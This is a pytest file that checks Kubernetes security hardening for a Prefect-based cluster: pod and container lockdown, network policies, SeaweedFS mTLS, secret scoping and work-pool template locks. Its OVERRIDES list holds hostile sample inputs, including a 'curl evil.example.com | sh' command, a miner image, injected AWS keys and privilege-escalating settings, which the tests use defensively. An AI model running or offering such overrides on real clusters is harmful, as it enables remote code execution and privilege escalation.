"""The cluster's hardening rules (tests/k8s/rules.py, tests/k8s/netpol.py) on what runs: the
kustomized manifests and the Job a flow run gets. Each rule is shown kept, and shown to reject a
copy broken the way it guards against, so none of these checks can pass by accident."""

from __future__ import annotations

import tomllib

import kubernetes_validate
import pytest
from prefect.utilities.schema_tools import ValidationError, validate

from tests.k8s import netpol, rules
from tests.k8s.helpers import K8S_VERSION, ROOT, load_template, objects_of, render_job
from warmstart.infra.cluster import pool_template
from warmstart.infra.seaweedfs import GRPC_COMPONENTS, security_toml


@pytest.fixture(scope="module")
def cluster() -> rules.Objects:
    return rules.cluster()


def _set(objects, workload: str, container: str | None, key: str, value) -> rules.Objects:
    """A copy with one securityContext field of a pod (container None) or container changed."""
    out = rules.broken(objects)
    spec = rules.pod_spec(out, workload)
    if container is None:
        spec["securityContext"][key] = value
    else:
        (c,) = [c for c in rules.containers(spec) if c["name"] == container]
        c.setdefault("securityContext", {})[key] = value
    return out


def test_what_runs_validates_against_the_kubernetes_schema(cluster):
    for doc in cluster:
        assert kubernetes_validate.validate(doc, K8S_VERSION, strict=True) == K8S_VERSION
    # the flow run's pod is among them, with its label the policies select
    (job,) = [d for d in cluster if d["kind"] == "Job"]
    assert job["metadata"]["generateName"] == "gpu-smoke-"
    labels = job["spec"]["template"]["metadata"]["labels"]
    assert labels["app.kubernetes.io/name"] == rules.FLOW_RUN


def test_every_pod_runs_as_a_non_root_user(cluster):
    assert rules.non_root(cluster) == []
    assert rules.non_root(_set(cluster, "postgres", None, "runAsNonRoot", False))
    assert rules.non_root(_set(cluster, "mlflow", "create-bucket", "runAsUser", 0))


def test_every_container_is_locked_down(cluster):
    assert rules.locked_down_containers(cluster) == []
    assert rules.locked_down_containers(
        _set(cluster, "seaweedfs", "seaweedfs", "readOnlyRootFilesystem", False)
    )
    assert rules.locked_down_containers(
        _set(cluster, "mlflow", "flows-user", "allowPrivilegeEscalation", True)
    )
    assert rules.locked_down_containers(
        _set(cluster, "prefect-worker", "prefect-worker", "capabilities", {"drop": ["NET_RAW"]})
    )


# what the warmstart image sets (infra/k8s/Dockerfile), under the flow-run pod's env
IMAGE_ENV = {
    rules.FLOW_RUN: {"HOME": "/home/warmstart", "PREFECT_HOME": "/home/warmstart/.prefect"}
}


def test_every_folder_a_program_writes_to_is_on_a_volume(cluster):
    dockerfile = (ROOT / "infra" / "k8s" / "Dockerfile").read_text()
    for var, value in IMAGE_ENV[rules.FLOW_RUN].items():
        assert f"{var}={value}" in dockerfile
    assert rules.writes_land_on_volumes(cluster, IMAGE_ENV) == []
    broken = rules.broken(cluster)
    server = rules.pod_spec(broken, "prefect-server")["containers"][0]
    (ui,) = [e for e in server["env"] if e["name"] == "PREFECT_UI_STATIC_DIRECTORY"]
    ui["value"] = "/opt/prefect-ui"
    assert rules.writes_land_on_volumes(broken, IMAGE_ENV) == [
        "prefect-server/prefect-server: PREFECT_UI_STATIC_DIRECTORY=/opt/prefect-ui is on the "
        "read-only root"
    ]
    broken = rules.broken(cluster)
    job = [d for d in broken if d["kind"] == "Job"][0]
    job["spec"]["template"]["spec"]["containers"][0]["volumeMounts"].pop(0)  # HOME's volume
    assert len(rules.writes_land_on_volumes(broken, IMAGE_ENV)) == 3  # HOME, Prefect's, ours


def test_every_pod_uses_the_runtimes_seccomp_profile(cluster):
    assert rules.seccomp(cluster) == []
    assert rules.seccomp(
        _set(cluster, "prefect-server", None, "seccompProfile", {"type": "Unconfined"})
    )


def test_pods_with_volume_claims_own_them_through_fs_group(cluster):
    assert rules.volumes_writable_by_the_pod(cluster) == []
    broken = rules.broken(cluster)
    del rules.pod_spec(broken, "postgres")["securityContext"]["fsGroup"]
    assert rules.volumes_writable_by_the_pod(broken)


def test_only_the_worker_gets_a_kubernetes_api_token(cluster):
    assert rules.service_account_tokens(cluster) == []
    broken = rules.broken(cluster)
    rules.pod_spec(broken, "mlflow")["automountServiceAccountToken"] = True
    assert rules.service_account_tokens(broken)
    broken = rules.broken(cluster)
    rules.pod_spec(broken, "prefect-worker")["automountServiceAccountToken"] = False
    assert rules.service_account_tokens(broken)


def test_every_container_has_cpu_and_memory_requests_and_limits(cluster):
    assert rules.resources(cluster) == []
    broken = rules.broken(cluster)
    del rules.pod_spec(broken, "seaweedfs")["containers"][0]["resources"]["limits"]["cpu"]
    assert rules.resources(broken)
    broken = rules.broken(cluster)
    rules.pod_spec(broken, "postgres")["containers"][0]["resources"]["requests"]["memory"] = "9Gi"
    assert rules.resources(broken)  # a request above its limit


def test_a_flow_runs_resources_come_from_job_variables_with_defaults():
    (container,) = render_job({})["spec"]["template"]["spec"]["containers"]
    assert container["resources"] == {
        "requests": {"cpu": "2", "memory": "8Gi"},
        "limits": {"cpu": "8", "memory": "32Gi", "nvidia.com/gpu": 1},
    }
    job = rules.flow_run_job({"cpu_limit": "16", "memory_limit": "64Gi", "gpu_limit": 4})
    limits = job["spec"]["template"]["spec"]["containers"][0]["resources"]["limits"]
    assert limits == {"cpu": "16", "memory": "64Gi", "nvidia.com/gpu": 4}
    # a run cannot remove a limit: null and nonsense are refused
    schema = load_template()["variables"]
    for bad in ({"memory_limit": None}, {"cpu_limit": "lots"}, {"memory_request": ""}):
        with pytest.raises(ValidationError):
            validate(bad, schema, raise_on_error=True, preprocess=True, ignore_required=True)


# ------------------------------------------------------------------ network


def test_the_namespace_denies_all_traffic_by_default(cluster):
    assert rules.default_deny(cluster) == []
    without = [d for d in cluster if d["metadata"].get("name") != "default-deny"]
    assert rules.default_deny(without)
    # and that matters: a pod nobody wrote a policy for would then take any pod's connections
    assert ("outsider", "stranger", "TCP", 8080) in netpol.open_edges(without)
    assert ("outsider", "stranger", "TCP", 8080) not in netpol.open_edges(cluster)


def test_exactly_the_planned_connections_are_open(cluster):
    assert netpol.connectivity(cluster) == []


def test_connectivity_check_sees_a_widened_or_a_missing_allow(cluster):
    widened = rules.broken(cluster)
    server = rules.find(widened, "NetworkPolicy", "prefect-server")
    server["spec"]["egress"].append({})  # an empty rule: anywhere, any port
    assert "open but not allowed: ('prefect-server', 'internet', 'TCP', 443)" in (
        netpol.connectivity(widened)
    )
    narrowed = rules.broken(cluster)
    flows = rules.find(narrowed, "NetworkPolicy", "flow-runs")
    flows["spec"]["egress"] = flows["spec"]["egress"][:1]  # S3 only
    assert "closed but needed: ('warmstart-flow-run', 'mlflow', 'TCP', 5000)" in (
        netpol.connectivity(narrowed)
    )
    no_dns = [d for d in cluster if d["metadata"].get("name") != "dns"]
    assert any("kube-dns" in v for v in netpol.connectivity(no_dns))


# ------------------------------------------------------------------ SeaweedFS gRPC mTLS


def _weed_config(objects) -> tuple[dict, dict[str, str]]:
    """(security.toml as the pod reads it, mount path -> Secret/ConfigMap name)."""
    spec = rules.pod_spec(objects, "seaweedfs")
    (weed,) = spec["containers"]
    (config_dir,) = [a.split("=", 1)[1] for a in weed["args"] if a.startswith("-config_dir=")]
    volumes = {v["name"]: v for v in spec["volumes"]}
    sources = {}
    for mount in weed["volumeMounts"]:
        v = volumes.get(mount["name"], {})
        sources[mount["mountPath"]] = v.get("secret", {}).get("secretName") or v.get(
            "configMap", {}
        ).get("name")
    configmap = rules.find(objects, "ConfigMap", sources[config_dir])
    return tomllib.loads(configmap["data"]["security.toml"]), sources


def mtls(objects) -> list[str]:
    """Every gRPC component of weed has the CA and a certificate and key from the TLS Secret."""
    toml, sources = _weed_config(objects)
    tls_keys = objects_of("Secret")["warmstart-seaweedfs-tls"]["stringData"]
    grpc, bad = toml.get("grpc", {}), []

    def from_secret(path: str | None) -> bool:
        folder, _, file = (path or "").rpartition("/")
        return sources.get(folder) == "warmstart-seaweedfs-tls" and file in tls_keys

    if not from_secret(grpc.get("ca")):
        bad.append("grpc.ca is not the TLS Secret's CA")
    for component in GRPC_COMPONENTS:
        section = grpc.get(component, {})
        if not (from_secret(section.get("cert")) and from_secret(section.get("key"))):
            bad.append(f"grpc.{component} has no certificate and key from the TLS Secret")
    return bad


def test_seaweedfs_grpc_asks_for_mutual_tls_as_locally(cluster, tmp_path):
    assert mtls(cluster) == []
    toml, _ = _weed_config(cluster)
    keys = type("Keys", (), dict.fromkeys(["jwt_volume_write", "jwt_volume_read"], "k"))
    keys.jwt_filer_write = keys.jwt_filer_read = "k"
    local = tomllib.loads(security_toml(keys, {n: tmp_path / n for n in ("ca", "cert", "key")}))
    # the same sections as the local stack's, the JWT keys aside (a Secret's WEED_* variables)
    assert set(local) - {"jwt"} == set(toml)
    assert set(local["grpc"]) == set(toml["grpc"])
    assert (local["access"], local["filer"]) == (toml["access"], toml["filer"])
    broken = rules.broken(cluster)
    configmap = rules.find(broken, "ConfigMap", "seaweedfs-security")
    configmap["data"]["security.toml"] = configmap["data"]["security.toml"].replace(
        "[grpc.volume]", "[grpc.not-volume]"
    )
    assert mtls(broken) == ["grpc.volume has no certificate and key from the TLS Secret"]


# ------------------------------------------------------------------ least privilege


def test_each_secret_reaches_only_the_containers_that_need_it(cluster):
    assert rules.credential_holders(cluster) == []
    # flow runs with the S3 admin keys or the MLflow admin: refused
    for secret in ("warmstart-s3", "warmstart-mlflow-auth"):
        broken = rules.broken(cluster)
        job = [d for d in broken if d["kind"] == "Job"][0]
        job["spec"]["template"]["spec"]["containers"][0]["envFrom"].append(
            {"secretRef": {"name": secret}}
        )
        assert rules.credential_holders(broken) == [f"{rules.FLOW_RUN}/prefect-job holds {secret}"]


# ------------------------------------------------------------------ the work pool's template


def _server_accepts(template: dict, job_variables: dict) -> bool:
    """What the Prefect server checks on `prefect deploy` and `deployment run --job-variable`."""
    try:
        validate(
            job_variables,
            template["variables"],
            raise_on_error=True,
            preprocess=True,
            ignore_required=True,
            allow_none_with_default=True,
        )
    except ValidationError:
        return False
    return True


OVERRIDES = [
    {"image": "evil.example.com/miner:latest"},
    {"command": "sh -c 'curl evil.example.com | sh'"},
    {"env": {"AWS_ACCESS_KEY_ID": "x"}},
    {"labels": {"app.kubernetes.io/name": "mlflow"}},  # would borrow MLflow's network allows
    {"annotations": {"container.apparmor.security.beta.kubernetes.io/prefect-job": "unconfined"}},
    {"service_account_name": "prefect-worker"},
    {"namespace": "kube-system"},
]


def test_the_pool_template_locks_what_a_run_must_not_choose():
    assert rules.template_locks(load_template()) == []
    assert rules.template_locks(pool_template(rules.IMAGE)) == []
    assert rules.template_locks(pool_template(rules.IMAGE, ["image", "env"])) == [
        "variable image is offered",
        "variable env is offered",
        "{{ image }} in the job configuration",
        "{{ env }} in the job configuration",
    ]


@pytest.mark.parametrize("override", OVERRIDES, ids=lambda o: next(iter(o)))
def test_the_server_refuses_a_run_that_overrides_a_locked_variable(override):
    template = pool_template(rules.IMAGE)
    assert not _server_accepts(template, override)
    assert _server_accepts(template, {"gpu_limit": 2, "memory_limit": "64Gi"})


def test_a_locked_variable_that_reaches_the_worker_anyway_changes_nothing():
    """Defence in depth: the worker itself ignores them (env is a list it never merges into)."""
    plain = rules.flow_run_job()
    forced = rules.flow_run_job({k: v for o in OVERRIDES for k, v in o.items()})
    pod, forced_pod = plain["spec"]["template"], forced["spec"]["template"]
    (c,), (fc,) = pod["spec"]["containers"], forced_pod["spec"]["containers"]
    assert fc["image"] == c["image"] == rules.IMAGE
    assert fc["args"] == c["args"] == ["prefect", "flow-run", "execute"]
    assert "AWS_ACCESS_KEY_ID" not in {e["name"] for e in fc["env"]}
    assert forced_pod["metadata"]["labels"]["app.kubernetes.io/name"] == rules.FLOW_RUN
    assert forced["metadata"]["namespace"] == "warmstart"
    assert "serviceAccountName" not in forced_pod["spec"]
    assert not forced_pod["metadata"].get("annotations")


def test_an_operator_can_unlock_a_variable_on_purpose():
    template = pool_template(rules.IMAGE, ["image"])
    assert _server_accepts(template, {"image": "registry.example.com/warmstart:2.0"})
    assert not _server_accepts(template, {"env": {"X": "1"}})  # the others stay locked
    job = render_job({"image": "registry.example.com/warmstart:2.0"}, template=template)
    assert job["spec"]["template"]["spec"]["containers"][0]["image"].endswith(":2.0")
    default = render_job({}, template=template)
    assert default["spec"]["template"]["spec"]["containers"][0]["image"] == rules.IMAGE
